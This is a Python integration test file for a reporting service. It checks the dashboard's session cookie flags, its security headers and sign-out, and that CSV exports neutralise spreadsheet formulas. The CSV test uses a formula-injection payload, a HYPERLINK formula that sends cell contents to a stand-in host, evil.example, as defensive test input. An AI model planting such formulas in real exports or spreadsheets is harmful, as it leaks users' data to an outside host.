"""The reporting service's browser face and exports: the dashboard's session cookie, sign-out and security headers;
CSV exports that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from datetime import timedelta
from typing import Any

import httpx
import pytest

from shared.auth import mint_token
from tests.integration.conftest import service_client
from tests.support import auth_header, eventually
from tests.support.clock import TODAY

pytestmark = pytest.mark.integration
SECRET = "a-production-secret-of-at-least-32-bytes-for-tests"


@pytest.fixture
async def reporting(infra: Any) -> AsyncIterator[httpx.AsyncClient]:
    async with AsyncExitStack() as stack:
        yield await service_client(stack, "reporting", infra, {})


@pytest.fixture
async def production_reporting(infra: Any) -> AsyncIterator[httpx.AsyncClient]:
    from reporting.bootstrap import create_app
    from reporting.settings import Settings

    settings = Settings(
        env="production",
        jwt_secret=SECRET,
        database_url=infra.database_url,
        kafka_bootstrap_servers=infra.kafka_bootstrap_servers,
        db_schema=f"t_reporting_{uuid.uuid4().hex[:8]}",
        kafka_group_prefix=f"test-{uuid.uuid4().hex[:8]}",
    )
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="https://reporting") as client:
            yield client


def cookie_of(response: httpx.Response) -> dict[str, str]:
    """The ``pmo_token`` Set-Cookie header's attributes (lower-case names; flags map to "")."""
    [header] = [h for h in response.headers.get_list("set-cookie") if h.startswith("pmo_token=")]
    name_value, *attributes = [part.strip() for part in header.split(";")]
    parsed = {"value": name_value.partition("=")[2]}
    for attribute in attributes:
        key, _, value = attribute.partition("=")
        parsed[key.lower()] = value
    return parsed


def assert_security_headers(response: httpx.Response) -> None:
    policy = response.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "script-src 'none'" in policy
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "no-store"


async def test_signing_in_sets_a_strict_http_only_cookie_for_the_whole_reporting_service(
    reporting: httpx.AsyncClient,
) -> None:
    token = mint_token("dora.director", ["director"])
    response = await reporting.get("/dashboard/login", params={"token": token})
    assert response.status_code == 303 and response.headers["location"] == "/dashboard", response.text
    cookie = cookie_of(response)
    assert cookie["value"] == token
    assert "httponly" in cookie and cookie["samesite"].lower() == "strict" and cookie["path"] == "/"
    assert "secure" not in cookie  # development mode runs on plain http://127.0.0.1
    assert_security_headers(response)


async def test_outside_development_mode_the_cookie_is_secure(production_reporting: httpx.AsyncClient) -> None:
    token = mint_token("dora.director", ["director"], secret=SECRET)
    response = await production_reporting.get("/dashboard/login", params={"token": token})
    assert response.status_code == 303
    cookie = cookie_of(response)
    assert "secure" in cookie and "httponly" in cookie and cookie["samesite"].lower() == "strict"


async def test_dashboard_pages_carry_the_security_headers_and_a_sign_out_button(
    reporting: httpx.AsyncClient,
) -> None:
    page = await reporting.get("/dashboard", headers=auth_header("vera.viewer", "viewer"))
    assert page.status_code == 200, page.text
    assert_security_headers(page)
    assert "<script" not in page.text  # the policy allows none; the page needs none
    assert "action='/dashboard/logout'" in page.text


async def test_signing_out_clears_the_cookie_even_without_a_valid_token(reporting: httpx.AsyncClient) -> None:
    token = mint_token("dora.director", ["director"])
    signed_in = await reporting.get("/dashboard/login", params={"token": token})
    assert signed_in.status_code == 303
    assert (await reporting.get("/dashboard")).status_code == 200  # the client keeps the cookie
    response = await reporting.post("/dashboard/logout", headers={"Authorization": "Bearer expired-or-forged"})
    assert response.status_code == 200
    cleared = cookie_of(response)
    assert cleared["value"] in ("", '""') and cleared["max-age"] == "0" and cleared["path"] == "/"
    assert response.headers["clear-site-data"] == '"cookies"'
    assert_security_headers(response)
    assert "pmo_token" not in reporting.cookies
    assert (await reporting.get("/dashboard")).status_code == 401  # no cookie, no token


async def test_csv_exports_neutralise_formulas_and_keep_negative_amounts(
    stack: dict[str, httpx.AsyncClient],
) -> None:
    projects, reporting = stack["projects"], stack["reporting"]
    pf = f"pf-{uuid.uuid4().hex[:8]}"
    created = await projects.post("/portfolios", json={"portfolio_id": pf, "name": "CSV test"})
    assert created.status_code == 201, created.text
    today = TODAY
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
    registered = await projects.post(
        "/projects",
        json={
            "code": f"CSV-{uuid.uuid4().hex[:6]}",
            "name": evil,
            "sponsor": "@sponsor",
            "manager": "m",
            "currency": "EUR",
            "portfolio_id": pf,
            "planned_start": str(today - timedelta(30)),
            "planned_end": str(today + timedelta(90)),
        },
    )
    assert registered.status_code == 201, registered.text

    async def exported() -> list[dict[str, str]]:
        response = await reporting.get("/reports/portfolio", params={"portfolio_id": pf, "format": "csv"})
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert rows, response.text
        return rows

    [row] = await eventually(exported, timeout=30)
    assert row["name"] == "'" + evil
    assert not any(value.startswith(("=", "+", "@")) for value in row.values() if value)
    negative = [value for value in row.values() if value.startswith("-")]
    assert all(value.lstrip("-").replace(".", "").isdigit() for value in negative)  # numbers stay numbers
